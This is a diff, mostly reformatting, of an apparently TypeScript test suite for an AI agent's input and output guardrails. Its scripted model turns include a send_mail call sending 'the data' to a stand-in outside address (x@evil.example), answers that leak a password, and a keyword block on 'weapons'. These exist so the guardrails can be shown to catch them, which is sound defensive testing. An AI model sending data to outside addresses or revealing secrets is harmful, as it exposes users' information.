@@ -52,7 +52,8 @@ const blockedTopic = defineGuardrail({
   name: 'blocked_topic',
   kind: 'input',
   tripwire: true,
-  check: ({ messages }) => (JSON.stringify(messages).includes('weapons') ? { pass: false, reason: 'I cannot help with weapons.' } : { pass: true }),
+  check: ({ messages }) =>
+    JSON.stringify(messages).includes('weapons') ? { pass: false, reason: 'I cannot help with weapons.' } : { pass: true },
 });
 let flakyThrows = 0;
 const broken = defineGuardrail({
@@ -80,10 +81,17 @@ S.add(
   { tools: [], guardrails: { output: [noPassword] } },
 );
 S.add('rude_input', [{ text: 'Here is your answer anyway.' }], { tools: [], guardrails: { input: [politeInput] } });
-S.add('trips_output', [{ text: 'Mailing it out.', toolCalls: [{ name: 'send_mail', args: { to: 'x@evil.example', body: 'the data' } }] }, { text: 'never reached' }], {
-  tools: [sendMail],
-  guardrails: { output: [noExfiltration] },
-});
+S.add(
+  'trips_output',
+  [
+    { text: 'Mailing it out.', toolCalls: [{ name: 'send_mail', args: { to: 'x@evil.example', body: 'the data' } }] },
+    { text: 'never reached' },
+  ],
+  {
+    tools: [sendMail],
+    guardrails: { output: [noExfiltration] },
+  },
+);
 S.add('trips_input', [{ text: 'never reached' }], { tools: [], guardrails: { input: [blockedTopic] } });
 S.add('always_leaks', [{ text: 'hunter2' }, { text: 'still hunter2' }], { tools: [], maxSteps: 2, guardrails: { output: [noPassword] } });
 S.add('throws', [{ text: 'an answer' }], { tools: [], guardrails: { output: [broken] } });
@@ -110,7 +118,8 @@ async function guardrailActivities(run: AgentRun): Promise<Array<{ kind: string;
     }
     const completed = e.activityTaskCompletedEventAttributes;
     const kind = completed ? kinds.get(String(completed.scheduledEventId)) : undefined;
-    if (completed && kind) out.push({ kind, decisions: JSON.parse(Buffer.from(completed.result!.payloads![0]!.data!).toString('utf8')) as GuardrailDecision[] });
+    if (completed && kind)
+      out.push({ kind, decisions: JSON.parse(Buffer.from(completed.result!.payloads![0]!.data!).toString('utf8')) as GuardrailDecision[] });
   }
   return out;
 }
@@ -125,7 +134,8 @@ describe('guardrails', () => {
     const recorded = await guardrailActivities(run);
     // Input before each of the two model calls, output after each of the two answers.
     expect(recorded.map((r) => r.kind)).toEqual(['input', 'output', 'input', 'output']);
-    for (const r of recorded) expect(r.decisions).toMatchObject([{ name: r.kind === 'input' ? 'polite_input' : 'no_password', pass: true }]);
+    for (const r of recorded)
+      expect(r.decisions).toMatchObject([{ name: r.kind === 'input' ? 'polite_input' : 'no_password', pass: true }]);
     expect((await allEvents(run)).filter((e) => e.type === 'guardrail')).toEqual([]);
     // The output guardrail saw the answer asking for a tool, then the final answer.
     expect(checked.slice(0, 2)).toMatchObject([
@@ -141,9 +151,22 @@ describe('guardrails', () => {
     // The model's second request held its failed answer and the feedback as the next user turn.
     const second = sent[1]!;
     expect(second.at(-2)).toMatchObject({ role: 'assistant', content: [{ type: 'text', text: 'The password is hunter2.' }] });
-    expect(second.at(-1)).toMatchObject({ role: 'user', content: [{ type: 'text', text: expect.stringContaining('no_password: the answer reveals a password') }] });
+    expect(second.at(-1)).toMatchObject({
+      role: 'user',
+      content: [{ type: 'text', text: expect.stringContaining('no_password: the answer reveals a password') }],
+    });
     const events = (await allEvents(run)).filter((e) => e.type === 'guardrail');
-    expect(events).toMatchObject([{ kind: 'output', step: 1, name: 'no_password', pass: false, reason: 'the answer reveals a password', tripwire: false, action: 'feedback' }]);
+    expect(events).toMatchObject([
+      {
+        kind: 'output',
+        step: 1,
+        name: 'no_password',
+        pass: false,
+        reason: 'the answer reveals a password',
+        tripwire: false,
+        action: 'feedback',
+      },
+    ]);
     expect((await guardrailActivities(run)).map((r) => r.decisions[0]?.pass)).toEqual([false, true]);
   });
 
@@ -151,7 +174,9 @@ describe('guardrails', () => {
     const run = await start('rude_input', 'answer me, stupid machine');
     const result = await run.result();
     expect(result).toMatchObject({ status: 'success', finalText: 'Here is your answer anyway.' });
-    expect((await allEvents(run)).filter((e) => e.type === 'guardrail')).toMatchObject([{ kind: 'input', step: 1, name: 'polite_input', reason: 'the request is rude', action: 'logged' }]);
+    expect((await allEvents(run)).filter((e) => e.type === 'guardrail')).toMatchObject([
+      { kind: 'input', step: 1, name: 'polite_input', reason: 'the request is rude', action: 'logged' },
+    ]);
   });
 
   it('output tripwire: the run ends `guardrail` with the reason as final text; the call it asked for never runs', async () => {
@@ -162,7 +187,10 @@ describe('guardrails', () => {
     expect(result.error).toMatchObject({ type: 'GuardrailTripped', message: expect.stringContaining('"no_exfiltration"') });
     expect(mailed).not.toContain(run.workflowId);
     const last = result.messages.at(-1)!;
-    expect(last).toMatchObject({ role: 'user', content: [{ type: 'tool_result', isError: true, output: { text: expect.stringContaining('Not executed') } }] });
+    expect(last).toMatchObject({
+      role: 'user',
+      content: [{ type: 'tool_result', isError: true, output: { text: expect.stringContaining('Not executed') } }],
+    });
     const events = await allEvents(run);
     expect(events.filter((e) => e.type === 'guardrail')).toMatchObject([{ action: 'ended', tripwire: true }]);
     expect(events.at(-1)).toMatchObject({ type: 'done', status: 'guardrail', finalText: 'mail to an outside address is not allowed' });
@@ -194,7 +222,9 @@ describe('guardrails', () => {
     const run = await start('unguarded', 'hi');
     expect((await run.result()).status).toBe('success');
     expect(await guardrailActivities(run)).toEqual([]);
-    const scheduled = ((await run.handle.fetchHistory()).events ?? []).filter((e) => e.activityTaskScheduledEventAttributes?.activityType?.name === 'checkGuardrails');
+    const scheduled = ((await run.handle.fetchHistory()).events ?? []).filter(
+      (e) => e.activityTaskScheduledEventAttributes?.activityType?.name === 'checkGuardrails',
+    );
     expect(scheduled).toEqual([]);
   });
 });
